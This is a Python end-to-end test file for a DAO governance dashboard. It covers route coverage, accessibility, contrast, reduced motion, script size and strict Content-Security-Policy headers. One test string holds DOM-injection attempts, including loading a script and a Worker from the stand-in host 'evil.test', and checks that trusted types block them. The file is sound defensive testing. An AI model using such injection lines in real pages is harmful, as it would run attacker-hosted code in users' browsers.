"""What holds on every page that there is: a page that is added without a place here fails the first test."""

import re
from collections.abc import Iterator
from pathlib import Path
from typing import Literal, cast

import pytest
from fastapi.routing import APIRoute, APIRouter
from playwright.sync_api import Browser, expect

from lexiarch.dashboard.policy import TRUSTED_TYPES
from lexiarch.dashboard.routes import create_router
from lexiarch.domain.proposals import ProposalState
from lexiarch.settings import Settings
from lexiarch.store.database import Database
from tests.e2e.conftest import OUTSIDER
from tests.helpers.axe import find_violations
from tests.helpers.builders import make_deployment
from tests.helpers.cast import person
from tests.helpers.chromium import Loaded
from tests.helpers.dao import AGAINST, FOR, Dao
from tests.helpers.pages import OVERFLOW, SOON
from tests.helpers.service import Service, serving

pytestmark = [pytest.mark.chain, pytest.mark.browser]

PATTERNS = "/patterns"
FIRST_VIEW = 60_000
"""Bytes of script and style, compressed, that a page needs before a wallet is used."""
WITH_ENCODER = 100_000
"""Of pages that need what encodes and reads the contracts' values, with a wallet or without."""
ENCODING = ("/propose", "/accept")
PARTS = {
    "/freshness",
    "/open-votes",
    "/proposals/{proposal_id}/eligibility",
    "/propose/preview",
    "/desk/renewals",
    "/language",
}
"""Fragments that scripts put into pages, tested with these; and the way back from a choice of language."""
Theme = Literal["light", "dark"]
MOVING = """() => {
  const still = "(prefers-reduced-motion: no-preference)";
  const found = [];
  const look = (rules, allowed) => {
    for (const rule of rules) {
      const asked = allowed || rule.conditionText === still;
      if (rule.cssRules) look(rule.cssRules, asked);
      const style = rule.style;
      if (!style || asked) continue;
      const set = (name) => !["", "none", "auto"].includes(style.getPropertyValue(name));
      if (["animation-name", "transition-property", "scroll-behavior"].some(set)) found.push(rule.cssText);
    }
  };
  for (const sheet of document.styleSheets) look(sheet.cssRules, false);
  return found;
}"""
"""Rules that move something without asking whether the reader wants it."""
LASTING = """() => [...document.querySelectorAll("*")].flatMap((each) => {
  const style = getComputedStyle(each);
  const seconds = [style.animationDuration, style.transitionDuration].join().split(",").map(parseFloat);
  const lasts = Math.max(...seconds) > 0.01 || style.scrollBehavior === "smooth";
  return lasts ? [each.outerHTML.slice(0, 100)] : [];
})"""
UNFOLD = """() => {
  const roots = [document, ...[...document.querySelectorAll("*")].map((each) => each.shadowRoot)];
  for (const root of roots) for (const each of root?.querySelectorAll("details") ?? []) each.open = true;
}"""
INJECT = """(where) => {
  const place = document.querySelector("main");
  const acts = {
    innerHTML: () => { place.innerHTML = "<b>injected</b>"; },
    outerHTML: () => { place.firstElementChild.outerHTML = "<b>injected</b>"; },
    insertAdjacentHTML: () => place.insertAdjacentHTML("beforeend", "<b>injected</b>"),
    srcdoc: () => { document.createElement("iframe").srcdoc = "<b>injected</b>"; },
    write: () => document.write("<b>injected</b>"),
    parse: () => new DOMParser().parseFromString("<b>injected</b>", "text/html"),
    handler: () => document.createElement("a").setAttribute("onclick", "1"),
    script: () => { document.createElement("script").text = "1"; },
    source: () => { document.createElement("script").src = "https://evil.test/a.js"; },
    worker: () => new Worker("https://evil.test/a.js"),
    policy: () => trustedTypes.createPolicy("mine", { createHTML: (text) => text }),
    again: () => trustedTypes.createPolicy("lexiarch-htmx", { createHTML: (text) => text }),
  };
  try { acts[where](); return "nothing"; } catch (error) { return error.name; }
}"""


@pytest.fixture(scope="module")
def proposals(dao: Dao) -> dict[ProposalState, int]:
    """One in each state that does not take more than the others' time."""
    call = dao.token.functions.transfer(person(37).address, 5 * 10**18)
    text = (
        "# Pay for the lamps\n\n- one\n- two\n\n| a | b |\n| - | - |\n| 1 | 2 |\n\nSee <https://example.org>."
    )
    executed, queued, succeeded = (dao.propose(3, f"{text}\n\n{number}", [call]) for number in range(3))
    executed.wait_for_snapshot()
    for flow in (executed, queued, succeeded):
        flow.vote(FOR, 3, 4, 5, 27, 28)
    executed.wait_for_deadline().queue().wait_for_eta().execute()
    queued.queue()
    defeated = dao.propose(3, "Nobody wants it").wait_for_snapshot().vote(AGAINST, 27, reason="No.")
    defeated.wait_for_deadline()
    active = dao.propose(27, text, [call]).wait_for_snapshot()
    active.vote(FOR, 3, 4).vote(AGAINST, 27, reason="Too bright.")
    canceled = dao.propose(5, "Thought better of it").cancel()
    pending = dao.propose(3, "Soon")
    flows = (executed, queued, succeeded, defeated, active, canceled, pending)
    return {flow.state: flow.id for flow in flows}


@pytest.fixture(scope="module")
def service(
    dao: Dao,
    proposals: dict[ProposalState, int],
    database_url: str,
    tmp_path_factory: pytest.TempPathFactory,
) -> Iterator[Service]:
    log: Path = tmp_path_factory.mktemp("service") / "log"
    given = (dao.deployment_path, dao.node_url, database_url, log)
    with serving(*given, patterns=True, rate_per_second=0) as service:
        service.wait_for_block(dao.web3.eth.block_number)
        yield service


@pytest.fixture(scope="module")
def pages(proposals: dict[ProposalState, int]) -> dict[str, list[str]]:
    """Addresses to look at, by route."""
    active, account = proposals[ProposalState.ACTIVE], person(29).address
    voter = person(27).address
    return {
        "/": ["/", f"/?account={account}"],
        "/proposals": ["/proposals", "/proposals?state=expired"],
        "/proposals/{proposal_id}": [
            *(f"/proposals/{number}" for number in proposals.values()),
            f"/proposals/{active}?account={account}",
            f"/proposals/{active}?account={voter}&voter={voter}",
        ],
        "/proposals/{proposal_id}/nonvoters": [f"/proposals/{active}/nonvoters"],
        "/proposals/{proposal_id}/simulation": [f"/proposals/{active}/simulation"],
        "/accounts/{address}": [f"/accounts/{person(number).address}" for number in (3, OUTSIDER)],
        "/accounts/{address}/id": [f"/accounts/{person(number).address}/id" for number in (3, OUTSIDER)],
        "/accounts/{address}/data": [f"/accounts/{person(3).address}/data"],
        "/accounts/{address}/ballot-key": [f"/accounts/{person(3).address}/ballot-key"],
        "/accept": ["/accept"],
        "/reason": ["/reason"],
        "/credentials": ["/credentials"],
        "/desk": ["/desk"],
        "/issuers/{address}": [f"/issuers/{person(1).address}"],
        "/notifications": ["/notifications", f"/notifications?account={voter}"],
        "/session": ["/session"],
        "/members": ["/members"],
        "/delegates": ["/delegates"],
        "/issuers": ["/issuers"],
        "/propose": ["/propose"],
        PATTERNS: [PATTERNS],
    }


ERRORS = ["/nothing-here", "/accounts/0x12", "/proposals/7", "/proposals?state=strange"]


def every(pages: dict[str, list[str]]) -> list[str]:
    return [address for addresses in pages.values() for address in addresses] + ERRORS


def paths(router: APIRouter) -> Iterator[str]:
    """Of all routes, those of routers that it includes, too."""
    for route in router.routes:
        inner = getattr(route, "original_router", None)
        yield from paths(inner) if inner else [cast(APIRoute, route).path]


def test_no_page_is_left_out(pages: dict[str, list[str]]) -> None:
    router = create_router(cast(Database, None), make_deployment(), Settings(patterns=True))
    assert set(paths(router)) == pages.keys() | PARTS


@pytest.mark.timeout(300)
@pytest.mark.parametrize(("theme", "width"), [("light", 320), ("dark", 1280)])
def test_breaks_no_accessibility_rule_and_no_narrow_screen(
    service: Service, pages: dict[str, list[str]], browser: Browser, theme: Theme, width: int
) -> None:
    context = browser.new_context(color_scheme=theme, viewport={"width": width, "height": 800})
    page = context.new_page()
    found = {}
    for address in every(pages):
        page.goto(service.url + address)
        page.evaluate(UNFOLD)
        # the pattern page has each part many times: their names cannot be unique there
        found[address] = find_violations(page, *(["landmark-unique"] if address == PATTERNS else []))
        assert page.evaluate(OVERFLOW) <= 0, f"{address} is too wide at {width} px"
    context.close()
    assert {where: what for where, what in found.items() if what} == {}


def test_looks_in_the_other_themes_as_it_should(
    service: Service, pages: dict[str, list[str]], browser: Browser
) -> None:
    """Colours in either theme, on every page; the structure is the same and was looked at above."""
    for theme, width in (("dark", 320), ("light", 1280)):
        context = browser.new_context(
            color_scheme=cast(Theme, theme), viewport={"width": width, "height": 800}
        )
        page = context.new_page()
        for address in every(pages):
            page.goto(service.url + address)
            assert find_violations(page, only=["color-contrast", "link-in-text-block"]) == [], address
            assert page.evaluate(OVERFLOW) <= 0, f"{address} is too wide at {width} px"
        context.close()


def test_moves_nothing_for_who_wants_no_motion(
    service: Service, pages: dict[str, list[str]], browser: Browser
) -> None:
    context = browser.new_context(reduced_motion="reduce")
    page = context.new_page()
    for addresses in pages.values():
        page.goto(service.url + addresses[0])
        assert page.evaluate(MOVING) == []
        assert page.evaluate(LASTING) == [], addresses[0]
    context.close()


def test_the_first_view_is_light(service: Service, pages: dict[str, list[str]], browser: Browser) -> None:
    for address in every(pages):
        if address == PATTERNS:
            continue  # for those who change the pages; it shows the wallet's failures, too
        context = browser.new_context()
        page = context.new_page()
        loaded = Loaded(page)
        page.goto(service.url + address, wait_until="load")
        page.wait_for_timeout(200)
        assert loaded.code_weight() < (WITH_ENCODER if address in ENCODING else FIRST_VIEW), address
        context.close()


@pytest.mark.parametrize(
    "where",
    [
        *("innerHTML", "outerHTML", "insertAdjacentHTML", "srcdoc", "write", "parse"),
        *("handler", "script", "source", "worker", "policy", "again"),
    ],
)
def test_no_script_can_make_elements_or_code_of_text(service: Service, browser: Browser, where: str) -> None:
    page = browser.new_context().new_page()
    page.goto(service.url)
    assert page.evaluate(INJECT, where) == "TypeError"
    assert page.get_by_text("injected").count() == 0
    page.context.close()


def test_a_page_s_policy_allows_one_maker_of_elements_and_nothing_from_elsewhere(
    service: Service, pages: dict[str, list[str]], browser: Browser
) -> None:
    page = browser.new_context().new_page()
    for address in every(pages):
        answer = page.goto(service.url + address)
        assert answer is not None
        rules = (rule.partition(" ") for rule in answer.headers["content-security-policy"].split("; "))
        policy = {name: values for name, _, values in rules}
        assert policy == {
            "default-src": "'none'",
            "script-src": "'self'",
            "style-src": "'self'",
            "img-src": "'self' data:",
            "connect-src": "'self'",
            "form-action": "'self'",
            "base-uri": "'none'",
            "frame-ancestors": "'none'",
            "require-trusted-types-for": "'script'",
            "trusted-types": TRUSTED_TYPES,
        }
    page.context.close()


def test_what_htmx_fetches_still_comes_forth_and_back(service: Service, browser: Browser) -> None:
    page = browser.new_context().new_page()
    failures: list[str] = []
    page.on("pageerror", lambda error: failures.append(str(error)))
    page.goto(f"{service.url}/proposals")
    everything = page.get_by_test_id("proposal-row").count()
    page.get_by_role("link", name="Defeated").click()
    expect(page.get_by_test_id("proposal-row")).to_have_count(1)
    expect(page).to_have_url(re.compile("state=defeated"))
    page.go_back()
    expect(page.get_by_test_id("proposal-row")).to_have_count(everything, timeout=SOON)
    assert failures == []
    page.context.close()
